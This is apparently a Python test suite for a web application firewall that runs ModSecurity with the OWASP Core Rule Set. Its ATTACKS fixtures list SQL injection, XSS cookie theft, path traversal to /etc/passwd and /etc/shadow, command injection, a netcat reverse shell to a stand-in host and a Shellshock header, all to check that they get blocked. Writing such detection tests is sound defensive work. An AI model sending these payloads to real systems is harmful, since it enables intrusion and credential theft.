"""
The real engine running the real Core Rule Set, through the firewall filter.

Each request goes through L{WafFilter} with the engine the machine has
(Debian's libmodsecurity3 through cffi) and the system's CRS (Debian's
C{modsecurity-crs}) at paranoia level 1, unless a test says otherwise.
"""

from __future__ import annotations

import base64
import json
import os
import urllib.parse
from collections.abc import Sequence

from twisted.internet.task import Clock
from twisted.internet.testing import EventLoggingObserver
from twisted.logger import globalLogPublisher
from twisted.trial.unittest import SynchronousTestCase

from balancebeam.config import WafConfig
from balancebeam.filters import Answer
from balancebeam.waf import build, rules
from balancebeam.waf.engine import IInspector, InspectedRequest, RulesError
from balancebeam.waf.filter import WafFilter
from balancebeam.waf.runner import TurnTakingRunner
from tests.test_waf_fakes import FakeExchange, real_inspector, request_head

BROWSER = (
    ("Host", "shop.example.com"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
)
FORM = ("Content-Type", "application/x-www-form-urlencoded")
JSON = ("Content-Type", "application/json")
JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUgRG9lIiw"
    "iaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def form(**fields: str) -> bytes:
    """
    A urlencoded form body.
    """
    return urllib.parse.urlencode(fields).encode()


def upload_body() -> bytes:
    """
    A browser's multipart upload: a text field, a text file and a binary PNG-like file.
    """
    parts = (
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n"
        "Holiday photos from Lisbon\r\n"
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"notes\"; "
        "filename=\"notes.txt\"\r\nContent-Type: text/plain\r\n\r\n"
        "Day one: we walked up to the castle and had lunch by the river.\n\r\n"
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"photo\"; "
        "filename=\"tram.png\"\r\nContent-Type: image/png\r\n\r\n"
    ).encode()
    return parts + bytes(range(256)) * 8 + f"\r\n--{BOUNDARY}--\r\n".encode()


Case = tuple[str, str, Sequence[tuple[str, str]], bytes]

ATTACKS: dict[str, Case] = {
    "sqli tautology in the query": ("GET", "/products?id=1%27%20OR%20%271%27%3D%271", (), b""),
    "sqli union select": (
        "GET",
        "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        (),
        b"",
    ),
    "sqli in a login form": ("POST", "/login", (FORM,), form(username="admin'--", password="x")),
    "sqli in a JSON field": (
        "POST",
        "/api/items",
        (JSON,),
        json.dumps({"id": "1' OR 1=1--"}).encode(),
    ),
    "xss script tag": ("GET", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", (), b""),
    "xss event handler in a form": (
        "POST",
        "/comment",
        (FORM,),
        form(comment="<img src=x onerror=alert(1)>"),
    ),
    "xss javascript url": ("GET", "/?next=javascript:alert(1)", (), b""),
    "path traversal to passwd": ("GET", "/download?file=../../../../etc/passwd", (), b""),
    "path traversal, encoded slashes": ("GET", "/static/..%2f..%2f..%2fetc%2fshadow", (), b""),
    "path traversal, backslashes": ("GET", "/download?file=..\\..\\windows\\win.ini", (), b""),
    "rce after a semicolon": ("GET", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", (), b""),
    "rce command substitution": ("POST", "/run", (FORM,), form(cmd="$(whoami)")),
    "rce reverse shell": ("GET", "/?x=%7C%20nc%20-e%20/bin/sh%20198.51.100.1%204444", (), b""),
    "rce shellshock header": (
        "GET",
        "/cgi-bin/status",
        (("Referer", "() { :; }; /bin/bash -c 'id'"),),
        b"",
    ),
}

BENIGN: dict[str, Case] = {
    "JSON order with a bearer token": (
        "POST",
        "/api/v1/orders",
        (JSON, ("Authorization", f"Bearer {JWT}")),
        json.dumps(
            {
                "items": [{"sku": "A-100", "qty": 2}, {"sku": "B-7", "qty": 1}],
                "note": "Please leave the parcel with the neighbour at number 12, thank you!",
                "customer": {"name": "Jane Doe", "email": "jane@example.org"},
                "gift": False,
            }
        ).encode(),
    ),
    "JSON API query": (
        "GET",
        "/api/v1/users/42?fields=name,email&sort=-created_at&page=2",
        (("Authorization", f"Bearer {JWT}"), ("Accept", "application/json")),
        b"",
    ),
    "contact form in plain English": (
        "POST",
        "/contact",
        (FORM,),
        form(
            name="Jane Doe",
            email="jane@example.org",
            message="Hello, I would like to know whether you ship to Canada and how long "
            "delivery usually takes. I ordered a blue jacket last week (order 4711) and it "
            "still has not arrived. Thanks and kind regards, Jane",
        ),
    ),
    "review form": (
        "POST",
        "/reviews",
        (FORM,),
        form(
            rating="4",
            title="Great value for money",
            review="The kettle boils quickly and is quiet. The only downside is that the "
            "handle gets a little warm after a few minutes. Would buy again!",
        ),
    ),
    "form with apostrophes": (
        "POST",
        "/contact",
        (FORM,),
        form(message="I'm writing because my order didn't arrive and I'd like a refund, please."),
    ),
    "cookies": (
        "GET",
        "/account",
        (
            (
                "Cookie",
                "session=9f8e7d6c5b4a39281706f5e4d3c2b1a0; cart=%7B%22items%22%3A3%7D; "
                "_ga=GA1.2.1234567890.1700000000; theme=dark; consent=analytics%3Dno%26ads%3Dno",
            ),
        ),
        b"",
    ),
    "base64 credentials and tokens in headers": (
        "GET",
        "/api/v1/reports",
        (
            ("Authorization", "Basic " + base64.b64encode(b"user-42:key/with+signs==").decode()),
            ("X-Api-Token", base64.b64encode(bytes(range(48))).decode().rstrip("=")),
        ),
        b"",
    ),
    "base64url token in the query": (
        "GET",
        "/verify?token=" + base64.urlsafe_b64encode(bytes(range(100, 164))).decode() + "&next=%2F",
        (),
        b"",
    ),
    "base64 file in JSON": (
        "POST",
        "/api/v1/avatars",
        (JSON,),
        json.dumps(
            {"filename": "me.jpg", "data": base64.b64encode(bytes(range(256)) * 4).decode()}
        ).encode(),
    ),
    "multipart file upload": (
        "POST",
        "/albums/7/photos",
        (("Content-Type", f"multipart/form-data; boundary={BOUNDARY}"),),
        upload_body(),
    ),
}


def decide(
    test: SynchronousTestCase, inspector: IInspector, case: Case, mode: str = "block"
) -> Answer | None:
    """
    Run one request through a L{WafFilter} on C{inspector}, taking turns on a
    L{Clock}, and return the filter's answer.
    """
    method, target, headers, body = case
    clock = Clock()
    waf = WafFilter(inspector, TurnTakingRunner(clock), mode, 128 * 1024)
    head = request_head(method, target, (*BROWSER, *headers), body if body else None)
    result = waf.on_request(FakeExchange(head, body))
    clock.advance(0)
    return test.successResultOf(result)


class AttackTests(SynchronousTestCase):
    """
    Attacks are blocked at paranoia level 1.
    """

    def test_attacks_are_blocked(self) -> None:
        """
        Every SQL injection, XSS, path traversal and command execution request gets a 403.
        """
        inspector = real_inspector(self)
        statuses = {name: decide(self, inspector, case) for name, case in ATTACKS.items()}
        self.assertEqual(
            {name: getattr(answer, "status", None) for name, answer in statuses.items()},
            {name: 403 for name in ATTACKS},
        )

    def test_engine_names_the_rules(self) -> None:
        """
        The verdict on a SQL injection names libinjection's rule 942100 and
        the CRS blocking rule 949110, with the anomaly score.
        """
        inspector = real_inspector(self)
        verdict = inspector.inspect(
            InspectedRequest(
                "r", "192.0.2.7", "GET", "/products?id=1%27%20OR%20%271%27%3D%271", "1.1",
                [(b"Host", b"example.com"), (b"User-Agent", b"Mozilla/5.0")], b"",
            )
        )
        self.assertEqual(verdict.status, 403)
        self.assertEqual(verdict.rule_ids, (942100, 949110))
        self.assertEqual(verdict.anomaly_score, 5)


class ArgumentsLimitTests(SynchronousTestCase):
    """
    Requests with more arguments than the engine parses are refused, as
    ModSecurity recommends: thousands of small arguments would cost the
    CRS seconds each.
    """

    def test_too_many_arguments_refused(self) -> None:
        """
        A form of 1500 arguments is refused with 400 by rule 99915; one of
        900 passes.
        """
        inspector = real_inspector(self)

        def form_of(count: int) -> InspectedRequest:
            body = "&".join(f"a{i}=xyzw" for i in range(count)).encode()
            headers = [
                (b"Host", b"example.com"),
                (b"User-Agent", b"Mozilla/5.0"),
                (b"Content-Type", b"application/x-www-form-urlencoded"),
                (b"Content-Length", b"%d" % len(body)),
            ]
            return InspectedRequest("r", "192.0.2.7", "POST", "/form", "1.1", headers, body)

        verdict = inspector.inspect(form_of(1500))
        self.assertEqual((verdict.status, 99915 in verdict.rule_ids), (400, True))
        self.assertNotIn(99915, inspector.inspect(form_of(900)).rule_ids)


class DetectModeTests(SynchronousTestCase):
    """
    C{--waf detect} with the real rules: everything passes, the attacks are logged.
    """

    def test_attacks_pass_and_are_logged(self) -> None:
        """
        Every attack passes in detect mode, each logged once as C{detect}
        with the CRS blocking rule among its rule ids.
        """
        inspector = real_inspector(self)
        events = EventLoggingObserver.createWithCleanup(
            self, globalLogPublisher  # type: ignore[arg-type]
        )
        answers = {
            name: decide(self, inspector, case, mode="detect") for name, case in ATTACKS.items()
        }
        self.assertEqual(answers, {name: None for name in ATTACKS})
        logged = [e for e in events if "action" in e]
        self.assertEqual([e["action"] for e in logged], ["detect"] * len(ATTACKS))
        self.assertTrue(all(949110 in e["rule_ids"] for e in logged))
        self.assertTrue(all(e["anomaly_score"] >= 5 for e in logged))


class BenignTests(SynchronousTestCase):
    """
    Ordinary traffic passes at paranoia level 1.
    """

    def test_benign_requests_pass(self) -> None:
        """
        JSON APIs, natural-language forms, cookies, base64 tokens and file uploads all pass.
        """
        inspector = real_inspector(self)
        answers = {name: decide(self, inspector, case) for name, case in BENIGN.items()}
        self.assertEqual(answers, {name: None for name in BENIGN})

    def test_benign_requests_match_no_rule(self) -> None:
        """
        The benign requests do not even score: no rule matches them.
        """
        inspector = real_inspector(self)
        matched = {}
        for name, (method, target, headers, body) in BENIGN.items():
            head = request_head(method, target, (*BROWSER, *headers), body if body else None)
            fields = [(raw.partition(b":")[0], value) for _, value, raw in head.fields]
            verdict = inspector.inspect(
                InspectedRequest("r", "192.0.2.7", method, target, "1.1", fields, body)
            )
            matched[name] = verdict.rule_ids
        self.assertEqual(matched, {name: () for name in BENIGN})


class ScoreTests(SynchronousTestCase):
    """
    Anomaly scores under and over the threshold.
    """

    def test_score_under_threshold_is_reported(self) -> None:
        """
        A warning-level match (920350, a numeric Host, 3 points) passes with its score.
        """
        inspector = real_inspector(self)
        verdict = inspector.inspect(
            InspectedRequest(
                "r", "192.0.2.7", "GET", "/", "1.1",
                [(b"Host", b"203.0.113.9"), (b"User-Agent", b"Mozilla/5.0"), (b"Accept", b"*/*")],
                b"",
            )
        )
        self.assertEqual((verdict.status, verdict.rule_ids, verdict.anomaly_score),
                         (None, (920350,), 3))

    def test_threshold_is_set_through_the_crs(self) -> None:
        """
        With C{--waf-anomaly-threshold 20} a 5-point SQL injection passes;
        a 20-point one is still blocked.
        """
        inspector = real_inspector(self, threshold=20)
        self.assertIsNone(decide(self, inspector, ATTACKS["sqli tautology in the query"]))
        answer = decide(self, inspector, ATTACKS["sqli union select"])
        self.assertEqual(getattr(answer, "status", None), 403)

    def test_paranoia_level_is_set_through_the_crs(self) -> None:
        """
        Rule 942180 is a paranoia level 2 rule: it fires at level 2, not at 1.
        """
        payload = form(q="' or 1=1 x")
        case: Case = ("POST", "/search", (FORM,), payload)
        headers = request_head(case[0], case[1], (*BROWSER, FORM), payload).fields
        fields = [(raw.partition(b":")[0], value) for _, value, raw in headers]
        request = InspectedRequest("r", "192.0.2.7", "POST", "/search", "1.1", fields, payload)
        pl1 = real_inspector(self, paranoia=1).inspect(request)
        pl2 = real_inspector(self, paranoia=2).inspect(request)
        self.assertNotIn(942180, pl1.rule_ids)
        self.assertIn(942180, pl2.rule_ids)


PCRE_PAYLOAD = '"=' + "1" * 1000 + "a" * 1000 + "'"
"""A rule 942180 payload whose match needs more than 1000 PCRE backtracking steps."""


def pcre_request() -> InspectedRequest:
    """
    L{PCRE_PAYLOAD} in a form field.
    """
    body = form(x=PCRE_PAYLOAD)
    headers = [
        (b"Host", b"example.com"),
        (b"User-Agent", b"Mozilla/5.0"),
        (b"Content-Type", b"application/x-www-form-urlencoded"),
        (b"Content-Length", str(len(body)).encode()),
    ]
    return InspectedRequest("r", "192.0.2.7", "POST", "/", "1.1", headers, body)


class PcreLimitTests(SynchronousTestCase):
    """
    Deep regular expression matches are not silently missed.
    """

    def test_deep_match_is_found(self) -> None:
        """
        Rule 942180 fires on a payload that needs a deep backtrack.
        """
        verdict = real_inspector(self, paranoia=2).inspect(pcre_request())
        self.assertIn(942180, verdict.rule_ids)
        self.assertEqual(verdict.status, 403)

    def test_wheel_finds_deep_match_with_our_limit(self) -> None:
        """
        The PyPI wheel, which applies C{SecPcreMatchLimit}, finds it with
        balancebeam's limit of 500000.
        """
        verdict = real_inspector(self, binding="wheel", paranoia=2, rules=_wheel_crs()).inspect(
            pcre_request()
        )
        self.assertIn(942180, verdict.rule_ids)

    def test_wheel_misses_deep_match_with_recommended_limit(self) -> None:
        """
        Under ModSecurity's recommended C{SecPcreMatchLimit 1000} the wheel
        misses the same detection without any error: why the limit is raised.
        """
        real_inspector(self, binding="wheel", rules=_wheel_crs())
        sources = rules.rule_sources(_wheel_crs(), 2, 5, 128 * 1024)
        settings = sources[0].text or ""
        sources[0] = rules.RuleSource(
            sources[0].name, settings.replace(f"{rules.PCRE_MATCH_LIMIT}", "1000")
        )
        from balancebeam.waf.modsec_wheel import WheelModSecurity

        engine = WheelModSecurity.load(sources)
        self.addCleanup(engine.close)
        self.assertNotIn(942180, engine.inspect(pcre_request()).rule_ids)


def _wheel_crs() -> tuple[str, ...]:
    """
    The system CRS without C{REQUEST-910-IP-REPUTATION.conf}, which needs
    GeoIP support the wheel is built without.
    """
    try:
        files = rules.system_crs_files()
    except ValueError:
        return ("/nonexistent/crs-setup.conf",)
    return tuple(f for f in files if "REQUEST-910" not in f)


class ExclusionTests(SynchronousTestCase):
    """
    False positives are handled with plain ModSecurity rule files.
    """

    def test_exclusion_file_removes_a_rule(self) -> None:
        """
        A JSON PUT is refused by CRS method enforcement (911100); an
        exclusion file loaded before the CRS rules with C{ctl:ruleRemoveById}
        lets it through, and the same request still fails without it.
        """
        case: Case = (
            "PUT",
            "/api/v1/users/42/settings",
            (JSON,),
            json.dumps({"language": "en-GB", "timezone": "Europe/London"}).encode(),
        )
        blocked = decide(self, real_inspector(self), case)
        self.assertEqual(getattr(blocked, "status", None), 403)
        exclusion = self.mktemp()
        with open(exclusion, "w") as f:
            f.write(
                'SecRule REQUEST_URI "@beginsWith /api/" '
                '"id:10001,phase:1,pass,nolog,ctl:ruleRemoveById=911100"\n'
            )
        files = rules.system_crs_files()
        setup = files[0]
        crs_rules = os.path.join(rules.SYSTEM_CRS_DIR, "rules", "*.conf")
        inspector = real_inspector(self, rules=(setup, exclusion, crs_rules))
        self.assertIsNone(decide(self, inspector, case))


class RuleFileErrorTests(SynchronousTestCase):
    """
    Rules that do not load stop the firewall from starting.
    """

    def test_broken_rule_file(self) -> None:
        """
        A syntax error gives a L{RulesError} naming the file and carrying the engine's message.
        """
        real_inspector(self, rules=(_any_file(self),))
        broken = self.mktemp()
        with open(broken, "w") as f:
            f.write('SecRuleEngine On\nSecRule ARGS "@rx a" "id:1,phase:2,deny,nosuchaction"\n')
        with self.assertRaises(RulesError) as raised:
            build.load_inspector(WafConfig(mode="block", rules=(broken,)))
        self.assertEqual(raised.exception.source, broken)
        self.assertIn(broken, str(raised.exception))
        self.assertIn("nosuchaction", raised.exception.message)

    def test_duplicate_rule_id(self) -> None:
        """
        A rule id used twice is refused, naming the second file.
        """
        real_inspector(self, rules=(_any_file(self),))
        first, second = self.mktemp(), self.mktemp()
        for path in (first, second):
            with open(path, "w") as f:
                f.write('SecRule ARGS "@rx a" "id:12345,phase:2,pass,log"\n')
        with self.assertRaises(RulesError) as raised:
            build.load_inspector(WafConfig(mode="block", rules=(first, second)))
        self.assertEqual(raised.exception.source, second)
        self.assertIn("12345", raised.exception.message)


def _any_file(test: SynchronousTestCase) -> str:
    """
    An empty rule file, to load an engine through L{real_inspector} (which
    skips or fails the test when there is no engine).
    """
    path = test.mktemp()
    with open(path, "w") as f:
        f.write("# empty\n")
    return path
